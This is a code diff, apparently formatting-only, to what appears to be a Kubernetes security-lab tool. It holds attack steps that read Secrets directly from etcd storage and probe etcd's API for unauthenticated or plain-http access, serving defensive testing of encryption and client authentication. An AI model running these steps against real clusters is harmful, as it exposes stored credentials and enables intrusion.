@@ -4,10 +4,12 @@ import { request as httpRequest } from 'node:http';
 import type { AttackStepKind } from '../types.js';
 import { UserError, ClusterUnreachableError } from '../../errors.js';
 
-const readSchema = z.object({
-  /** The Secret whose values the attacker looks for in etcd's raw bytes (a stolen backup, a disk snapshot). */
-  secret: z.object({ namespace: z.string(), name: z.string() }).strict(),
-}).strict();
+const readSchema = z
+  .object({
+    /** The Secret whose values the attacker looks for in etcd's raw bytes (a stolen backup, a disk snapshot). */
+    secret: z.object({ namespace: z.string(), name: z.string() }).strict(),
+  })
+  .strict();
 
 /**
  * Read a Secret straight from etcd's storage, past the API server (what a stolen etcd backup or disk
@@ -23,11 +25,19 @@ export const etcdRead: AttackStepKind<z.infer<typeof readSchema>> = {
     if (!raw) return { succeeded: false, message: `etcd holds no /registry/secrets/${namespace}/${name}` };
     // What to look for: the Secret's values, read through the API with the lab's own credentials.
     const s: any = await ctx.cluster.read({ apiVersion: 'v1', kind: 'Secret', metadata: { name, namespace } });
-    const values = Object.entries<string>(s?.data ?? {}).map(([k, v]) => [k, Buffer.from(v, 'base64')] as const).filter(([, v]) => v.length >= 4);
+    const values = Object.entries<string>(s?.data ?? {})
+      .map(([k, v]) => [k, Buffer.from(v, 'base64')] as const)
+      .filter(([, v]) => v.length >= 4);
     const found = values.filter(([, v]) => raw.includes(v));
-    const head = raw.subarray(0, 40).toString('latin1').replace(/[^\x20-\x7e]/g, '.');
+    const head = raw
+      .subarray(0, 40)
+      .toString('latin1')
+      .replace(/[^\x20-\x7e]/g, '.');
     if (!found.length) {
-      return { succeeded: false, message: `/registry/secrets/${namespace}/${name} starts with "${head.slice(0, 32)}" — ${head.startsWith('k8s:enc:') && !head.startsWith('k8s:enc:identity') ? 'ciphertext: without the key in the API server\'s encryption config the values are noise' : 'none of its values appear in it'}` };
+      return {
+        succeeded: false,
+        message: `/registry/secrets/${namespace}/${name} starts with "${head.slice(0, 32)}" — ${head.startsWith('k8s:enc:') && !head.startsWith('k8s:enc:identity') ? "ciphertext: without the key in the API server's encryption config the values are noise" : 'none of its values appear in it'}`,
+      };
     }
     return {
       succeeded: true,
@@ -37,22 +47,28 @@ export const etcdRead: AttackStepKind<z.infer<typeof readSchema>> = {
   },
 };
 
-const connectSchema = z.object({
-  /** Node path of etcd's CA (trusted by the attacker's client: it only proves who etcd is). */
-  caFile: z.string().startsWith('/').default('/etc/kubernetes/pki/etcd/ca.crt'),
-}).strict();
+const connectSchema = z
+  .object({
+    /** Node path of etcd's CA (trusted by the attacker's client: it only proves who etcd is). */
+    caFile: z.string().startsWith('/').default('/etc/kubernetes/pki/etcd/ca.crt'),
+  })
+  .strict();
 
 type Answer = { ok: true; status: number; body: string } | { ok: false; why: string; code?: string };
 
 function post(url: string, ca: string | undefined, path: string, body: string): Promise<Answer> {
   return new Promise((resolve) => {
     const send = new URL(url).protocol === 'http:' ? httpRequest : request;
-    const req = send(new URL(path, url), { method: 'POST', ca, rejectUnauthorized: !!ca, timeout: 4000, agent: false, headers: { 'Content-Type': 'application/json' } }, (res) => {
-      const chunks: Buffer[] = [];
-      res.on('data', (c: Buffer) => chunks.push(c));
-      res.on('end', () => resolve({ ok: true, status: res.statusCode ?? 0, body: Buffer.concat(chunks).toString('utf8') }));
-      res.on('error', (e: any) => resolve({ ok: false, why: e.message, code: e.code }));
-    });
+    const req = send(
+      new URL(path, url),
+      { method: 'POST', ca, rejectUnauthorized: !!ca, timeout: 4000, agent: false, headers: { 'Content-Type': 'application/json' } },
+      (res) => {
+        const chunks: Buffer[] = [];
+        res.on('data', (c: Buffer) => chunks.push(c));
+        res.on('end', () => resolve({ ok: true, status: res.statusCode ?? 0, body: Buffer.concat(chunks).toString('utf8') }));
+        res.on('error', (e: any) => resolve({ ok: false, why: e.message, code: e.code }));
+      },
+    );
     req.on('timeout', () => req.destroy(Object.assign(new Error('no answer within 4 s'), { code: 'ETIMEDOUT' })));
     req.on('error', (e: any) => resolve({ ok: false, why: e.message, code: e.code }));
     req.end(body);
@@ -76,7 +92,8 @@ export const etcdConnect: AttackStepKind<z.infer<typeof connectSchema>> = {
     const range = JSON.stringify({ key: b64('/registry/'), range_end: b64('/registry0'), keys_only: true });
     let a = await post(url, ca, '/v3/kv/range', range);
     // etcd that does not speak TLS at all: the attacker just uses http://.
-    if (!a.ok && /WRONG_VERSION_NUMBER|wrong version number|PACKET_LENGTH_TOO_LONG/i.test(`${a.code} ${a.why}`)) a = await post(url.replace(/^https:/, 'http:'), undefined, '/v3/kv/range', range);
+    if (!a.ok && /WRONG_VERSION_NUMBER|wrong version number|PACKET_LENGTH_TOO_LONG/i.test(`${a.code} ${a.why}`))
+      a = await post(url.replace(/^https:/, 'http:'), undefined, '/v3/kv/range', range);
     if (!a.ok) {
       if (a.code === 'ECONNREFUSED' || a.code === 'ETIMEDOUT') throw new ClusterUnreachableError(`etcd at ${url}: ${a.why}`);
       return { succeeded: false, message: `etcd at ${url} ended the TLS handshake: ${a.why.split('\n')[0]} — it wants a client certificate signed by its CA` };
